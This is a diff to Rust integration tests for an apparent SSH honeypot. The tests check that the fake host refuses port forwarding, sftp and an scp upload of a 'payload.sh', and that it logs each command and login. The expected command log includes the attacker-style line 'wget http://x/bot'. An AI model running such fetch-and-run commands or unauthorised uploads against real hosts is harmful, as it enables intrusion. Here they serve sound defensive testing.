@@ -411,8 +411,11 @@ fn nmap_and_ssh_audit_see_the_profiles_and_host_keys_survive_a_restart() {
         (u, Profile::Openssh96Ubuntu),
         (db, Profile::Openssh92Debian),
     ] {
-        let audit = Command::new("ssh-audit")
+        // As a module, so no PATH set-up of pip's scripts is needed.
+        let audit = Command::new("python3")
             .args([
+                "-m",
+                "ssh_audit",
                 "-j",
                 "--skip-rate-test",
                 "-p",
@@ -745,13 +748,84 @@ fn an_accepted_credential_reaches_a_consistent_fake_host_and_every_command_is_re
         "{}",
         stderr(&o)
     );
+    let o = sshpass(
+        addr,
+        "deploy",
+        "Zq-Summer-2024",
+        &[
+            "-o",
+            "PubkeyAuthentication=no",
+            "-o",
+            "ExitOnForwardFailure=yes",
+            "-N",
+            "-R",
+            "127.0.0.1:0:127.0.0.1:9",
+        ],
+        None,
+    );
+    assert!(
+        stderr(&o).contains("remote port forwarding failed"),
+        "{}",
+        stderr(&o)
+    );
+    let sftp = Command::new("sshpass")
+        .args(["-p", "Zq-Summer-2024", "sftp"])
+        .args(
+            ssh_options(addr)
+                .iter()
+                .map(|o| if o == "-p" { "-P" } else { o }),
+        )
+        .args(["-o", "PubkeyAuthentication=no", "deploy@127.0.0.1"])
+        .stdin(std::process::Stdio::null())
+        .output()
+        .unwrap();
+    assert!(!sftp.status.success());
+    assert!(stderr(&sftp).contains("Connection closed"), "{}", stderr(&sftp));
+    let local = sensor.dir.path().join("payload.sh");
+    std::fs::write(&local, "echo pwned\n").unwrap();
+    let scp = Command::new("sshpass")
+        .args(["-p", "Zq-Summer-2024", "scp", "-O"])
+        .args(
+            ssh_options(addr)
+                .iter()
+                .map(|o| if o == "-p" { "-P" } else { o }),
+        )
+        .args(["-o", "PubkeyAuthentication=no"])
+        .arg(&local)
+        .arg("deploy@127.0.0.1:/tmp/")
+        .output()
+        .unwrap();
+    assert!(
+        stderr(&scp).contains("scp: /tmp/: Permission denied"),
+        "{}",
+        stderr(&scp)
+    );
+
+    // A second login is told about the first, as sshd's lastlog line does.
+    let again = paramiko(&[
+        "shell",
+        "127.0.0.1",
+        &addr.port().to_string(),
+        "deploy",
+        "Zq-Summer-2024",
+    ]);
+    let out2 = again[0]["output"].as_str().unwrap();
+    assert!(!out.contains("Last login:"), "{out}");
+    assert!(
+        out2.contains("\r\nLast login: ") && out2.contains(" from 127.0.0.1\r\n"),
+        "{out2}"
+    );
 
     let events = sensor.events();
     let accepted: Vec<_> = auths(&events, "password")
         .into_iter()
         .filter(|e| e["event"]["result"] == "accepted")
         .collect();
-    assert_eq!(accepted.len(), 4);
+    assert_eq!(
+        accepted.len(),
+        8,
+        "every login: two exec, two shells, -W, -R, sftp, scp"
+    );
     let commands: Vec<(String, String, u64)> = of_type(&events, "ssh_command")
         .iter()
         .map(|e| {
@@ -770,16 +844,31 @@ fn an_accepted_credential_reaches_a_consistent_fake_host_and_every_command_is_re
         ("shell", "cat notes.txt", 0),
         ("shell", "wget http://x/bot", 127),
         ("shell", "exit", 127),
+        ("exec", "scp -t /tmp/", 1),
+        ("shell", "exit", 0),
     ]
     .iter()
     .map(|(s, c, st)| (s.to_string(), c.to_string(), *st))
     .collect();
     assert_eq!(commands, expected);
-    let refused = of_type(&events, "ssh_request");
-    assert_eq!(refused.len(), 1, "{events:#?}");
-    assert_eq!(refused[0]["event"]["request"], "direct-tcpip");
-    assert_eq!(refused[0]["event"]["detail"], "127.0.0.9:3389");
-    assert_eq!(refused[0]["event"]["username"], "deploy");
+    let refused: Vec<(String, String)> = of_type(&events, "ssh_request")
+        .iter()
+        .map(|e| {
+            assert_eq!(e["event"]["username"], "deploy");
+            (
+                e["event"]["request"].as_str().unwrap().to_string(),
+                e["event"]["detail"].as_str().unwrap_or("").to_string(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        refused,
+        [
+            ("direct-tcpip".to_string(), "127.0.0.9:3389".to_string()),
+            ("tcpip-forward".to_string(), "127.0.0.1:0".to_string()),
+            ("subsystem".to_string(), "sftp".to_string()),
+        ]
+    );
     let conns = of_type(&events, "ssh_connection");
     assert!(
         conns
